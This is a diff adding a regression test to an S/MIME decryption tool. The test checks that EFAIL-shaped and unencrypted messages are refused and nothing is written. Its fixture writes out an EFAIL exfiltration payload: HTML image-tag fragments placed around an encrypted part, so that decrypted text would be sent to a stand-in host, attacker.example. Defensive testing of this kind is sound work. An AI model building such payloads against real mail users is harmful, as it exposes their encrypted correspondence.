@@ -141,3 +141,35 @@ test('inspect shows layers and recipients without a key; --json parses; garbage 
   assert.equal(bad.status, 2);
   assert.match(bad.stderr, /MALFORMED/);
 });
+
+test('the EFAIL shape (an encrypted part among parts anyone could add) and an unencrypted message never exit 0 and write nothing, single and batch', async () => {
+  // issue 12 item 7: decrypt left the encrypted part closed (as it must) but said success, exit 0, and wrote the message.
+  const { encryptMessage } = await import('../../src/smime/encrypt-message.ts');
+  const { mkdirSync } = await import('node:fs');
+  const victim = encryptMessage(draft, { recipients: [{ certificate: bob.cert }] });
+  const sealedPart = victim.subarray(victim.indexOf('Content-Type: application/pkcs7-mime'));
+  const shaped = Buffer.concat([
+    Buffer.from('From: alice@example.com\r\nTo: bob@example.com\r\nSubject: Re: plan\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="https://attacker.example/?\r\n--x\r\n'),
+    sealedPart,
+    Buffer.from('\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'),
+  ]);
+  for (const [what, input] of [['EFAIL shape', shaped], ['not encrypted at all', draft]] as const) {
+    const out = join(dir, `refused-${what.replace(/\W/g, '')}.eml`);
+    const r = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', '-', '-o', out], { input });
+    assert.equal(r.status, 2, `${what}: ${r.stderr}`);
+    assert.match(r.stderr, /MALFORMED: The message is not encrypted/, what);
+    assert.equal(existsSync(out), false, `${what}: nothing written`);
+  }
+  const efail = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--json'], { input: shaped });
+  assert.equal(efail.status, 2);
+  assert.match(JSON.parse(efail.stdout.toString('utf8')).summary, /encrypted parts are not opened.*EFAIL/);
+  // In a batch the message is a failure, not written.
+  const inDir = join(dir, 'efail-batch');
+  mkdirSync(inDir);
+  writeFileSync(join(inDir, 'shaped.eml'), shaped);
+  writeFileSync(join(inDir, 'sealed.eml'), victim);
+  const b = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', inDir, '-o', join(dir, 'efail-out')]);
+  assert.equal(b.status, 2, b.stderr);
+  assert.deepEqual(readdirSync(join(dir, 'efail-out')), ['sealed.eml']);
+  assert.match(b.stderr, /shaped\.eml: MALFORMED: .*\(skipped\)/);
+});
